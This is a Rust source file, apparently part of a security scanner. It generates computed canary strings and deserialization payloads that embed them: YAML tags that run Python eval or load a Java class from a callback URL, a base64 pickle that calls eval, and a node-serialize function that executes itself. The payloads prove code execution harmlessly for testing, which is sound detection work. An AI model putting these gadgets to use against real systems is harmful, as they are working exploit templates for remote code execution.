//! Canaries that have to be computed, and serialized data that computes them when it is read.

use crate::Context;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

/// A text that appears in an answer only if somebody multiplied: two random marks with the product
/// of two random numbers between them. What is sent holds the factors, so an echo is no proof.
#[derive(Debug, Clone)]
pub(crate) struct Canary {
    left: String,
    right: String,
    factors: (u32, u32),
}

impl Canary {
    /// A new one, different each time.
    pub(crate) fn new(cx: &Context) -> Self {
        let (left, right) = (cx.nonce(), cx.nonce());
        // The letters of the marks are random; two sums over them are factors enough.
        let number = |text: &str| {
            text.bytes()
                .fold(7_u32, |sum, byte| (sum * 31 + u32::from(byte)) % 899)
                + 101
        };
        Self {
            factors: (number(&left), number(&right)),
            left: left[..6].to_owned(),
            right: right[..6].to_owned(),
        }
    }

    /// What the answer holds when it was computed.
    pub(crate) fn expected(&self) -> String {
        format!(
            "{}{}{}",
            self.left,
            self.factors.0 * self.factors.1,
            self.right
        )
    }

    /// A command of the POSIX shell that prints it.
    pub(crate) fn shell(&self) -> String {
        let (a, b) = self.factors;
        format!("echo {}$(({a}*{b})){}", self.left, self.right)
    }

    fn python(&self) -> String {
        let (a, b) = self.factors;
        format!("'{}'+str({a}*{b})+'{}'", self.left, self.right)
    }

    fn javascript(&self) -> String {
        let (a, b) = self.factors;
        format!("'{}'+({a}*{b})+'{}'", self.left, self.right)
    }
}

/// Serialized data that runs something harmless when it is read without care.
pub(crate) struct Gadget {
    /// What reports call it.
    pub(crate) name: &'static str,
    /// The text to put in place.
    pub(crate) text: String,
}

/// What the formats that `hint` (a media type, a name, a description, an example) speaks of would
/// run. `callback` is a URL whose call is proof, too.
pub(crate) fn gadgets(hint: &str, canary: &Canary, callback: Option<&str>) -> Vec<Gadget> {
    let hint = hint.to_lowercase();
    let speaks = |words: &[&str]| words.iter().any(|word| hint.contains(word));
    let mut all = Vec::new();
    if speaks(&["yaml", "yml"]) {
        all.push(Gadget {
            name: "a YAML tag that evaluates Python",
            text: format!("!!python/object/apply:eval [\"{}\"]\n", canary.python()),
        });
        if let Some(url) = callback {
            all.push(Gadget {
                name: "a YAML tag that makes a Java class loader",
                text: format!(
                    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"{url}\"]]]]\n"
                ),
            });
        }
    }
    if speaks(&["pickle", "gasv", "gan9"]) {
        // Protocol 0: call builtins.eval with one string (docs.python.org, pickletools).
        let program = format!("cbuiltins\neval\n(S\"{}\"\ntR.", canary.python());
        all.push(Gadget {
            name: "a pickle that evaluates Python",
            text: STANDARD.encode(program),
        });
    }
    if speaks(&["node-serialize", "_$$nd_func$$_", "unserialize"]) {
        all.push(Gadget {
            name: "a function that node-serialize calls",
            text: format!(
                "{{\"canary\":\"_$$ND_FUNC$$_function(){{return {}}}()\"}}",
                canary.javascript()
            ),
        });
    }
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    fn canary() -> Canary {
        Canary {
            left: "abcdef".to_owned(),
            right: "uvwxyz".to_owned(),
            factors: (123, 457),
        }
    }

    #[test]
    fn no_payload_holds_what_it_computes() {
        let canary = canary();
        assert_eq!(canary.expected(), "abcdef56211uvwxyz");
        assert!(!canary.shell().contains(&canary.expected()));
        let all = gadgets(
            "yaml pickle node-serialize",
            &canary,
            Some("http://127.0.0.1:1/n"),
        );
        assert_eq!(all.len(), 4);
        for gadget in all {
            assert!(!gadget.text.contains(&canary.expected()), "{}", gadget.name);
        }
        assert!(gadgets("application/json", &canary, None).is_empty());
    }

    #[test]
    fn the_command_prints_the_product() {
        let output = std::process::Command::new("sh")
            .arg("-c")
            .arg(canary().shell())
            .output()
            .unwrap();
        assert_eq!(
            String::from_utf8_lossy(&output.stdout).trim(),
            canary().expected()
        );
    }
}
